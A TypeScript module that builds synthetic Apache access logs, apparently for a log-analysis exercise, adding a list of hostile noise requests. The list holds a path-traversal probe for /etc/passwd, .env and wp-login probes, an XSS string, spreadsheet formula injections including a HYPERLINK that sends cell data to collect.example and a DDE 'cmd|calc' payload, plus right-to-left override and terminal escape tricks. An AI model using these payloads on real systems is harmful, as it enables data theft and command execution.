// The web server's log files: Apache combined format, one file a local day, as logrotate leaves them.

import { gzipSync } from 'node:zlib';
import type { Random } from './random.ts';
import { LOG_OFFSET, LOG_OFFSET_MS, LOGS_FROM } from './story.ts';
import type { Request } from './visits.ts';

const DAY_MS = 86_400_000;
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** Newest last. access.log.4 is compressed although its name does not say so: somebody renamed it. */
export const LOG_FILES: readonly { file: string; gzip: boolean }[] = [
  { file: 'logs/access.log.5.gz', gzip: true },
  { file: 'logs/access.log.4', gzip: true },
  { file: 'logs/access.log.3.gz', gzip: true },
  { file: 'logs/access.log.2.gz', gzip: true },
  { file: 'logs/access.log.1', gzip: false },
  { file: 'logs/access.log', gzip: false },
];

/** One log file and what is in it. */
export interface LogFile {
  file: string;
  bytes: Buffer;
  text: string;
  lines: number;
  gzip: boolean;
  byStatus: Record<string, number>;
}

/** 10/Jun/2026:05:02:10 +0200 */
function logTime(ms: number): string {
  const local = new Date(ms + LOG_OFFSET_MS);
  const two = (value: number): string => String(value).padStart(2, '0');
  const date = `${two(local.getUTCDate())}/${MONTHS[local.getUTCMonth()]}/${local.getUTCFullYear()}`;
  return `${date}:${two(local.getUTCHours())}:${two(local.getUTCMinutes())}:${two(local.getUTCSeconds())} ${LOG_OFFSET}`;
}

/** A line of the combined format, without its newline. */
function logLine(request: Request): string {
  const first = request.raw ?? `${request.method} ${request.target} HTTP/1.1`;
  const size = request.bytes === 0 ? '-' : String(request.bytes);
  return `${request.client} - - [${logTime(request.at)}] "${first}" ${request.status} ${size} "${request.referrer}" "${request.agent}"`;
}

/** The files, oldest first. Lines stand in the order in which requests ended. */
export function logFiles(requests: readonly Request[]): LogFile[] {
  const ordered = requests
    .map((request, index) => ({ request, index, end: request.at + request.tookMs }))
    .sort((a, b) => a.end - b.end || a.index - b.index);
  const days: Request[][] = LOG_FILES.map(() => []);
  for (const { request, end } of ordered) {
    days[Math.min(days.length - 1, Math.floor((end - LOGS_FROM) / DAY_MS))].push(request);
  }
  return LOG_FILES.map(({ file, gzip }, day) => {
    const text = days[day].map((request) => `${logLine(request)}\n`).join('');
    const byStatus: Record<string, number> = {};
    for (const { status } of [...days[day]].sort((a, b) => a.status - b.status))
      byStatus[status] = (byStatus[status] ?? 0) + 1;
    // Node writes modification time 0 into the gzip header.
    const bytes = gzip ? gzipSync(text, { level: 9 }) : Buffer.from(text);
    return { file, bytes, text, lines: days[day].length, gzip, byStatus };
  });
}

// What Apache writes for a TLS hello on the plain port, a probe, a formula, a right-to-left override, an escape sequence.
const HOSTILE: readonly Partial<Request>[] = [
  {
    raw: String.raw`\x16\x03\x01\x05\xa8\x01\x00\x05\xa4\x03\x03\xb2\x91`,
    status: 400,
    bytes: 484,
    agent: '-',
  },
  {
    raw: String.raw`\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`,
    status: 400,
    bytes: 484,
    agent: '-',
  },
  {
    raw: 'GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1',
    status: 400,
    bytes: 484,
    agent: 'Mozilla/5.0 zgrab/0.x',
  },
  { raw: 'GET /wp-login.php HTTP/1.1', status: 404, bytes: 274, agent: 'python-requests/2.31.0' },
  { raw: 'GET /.env HTTP/1.1', status: 404, bytes: 274, agent: 'Go-http-client/1.1' },
  {
    raw: 'GET / HTTP/1.1',
    status: 200,
    bytes: 6_100,
    agent: String.raw`=HYPERLINK(\"http://collect.example/?\"&A1,\"open invoice\")`,
  },
  {
    raw: 'GET /?q=<script>alert(1)</script> HTTP/1.1',
    status: 200,
    bytes: 6_100,
    agent: '@SUM(1+1)*cmd|calc',
  },
  { raw: 'GET / HTTP/1.1', status: 200, bytes: 6_100, agent: 'Tea\u202ereader/1.0 (gpj.exe)' },
  { raw: 'GET / HTTP/1.1', status: 200, bytes: 6_100, agent: String.raw`\x1b[31mred\x1b[0m \xe2\x80\xae` },
];

/** A few lines a day that are none of the story's business but of every log's. */
export function hostileNoise(
  random: Random,
  addresses: readonly string[],
  from: number,
  to: number,
): Request[] {
  const requests: Request[] = [];
  for (let at = from + random.wait(3_600_000); at < to; at += random.wait(7_200_000)) {
    requests.push({
      at: Math.floor(at),
      tookMs: random.whole(1, 40),
      client: random.pick(addresses),
      method: 'GET',
      target: '/',
      status: 400,
      bytes: 0,
      referrer: '-',
      agent: '-',
      ...HOSTILE[requests.length % HOSTILE.length],
    });
  }
  return requests;
}
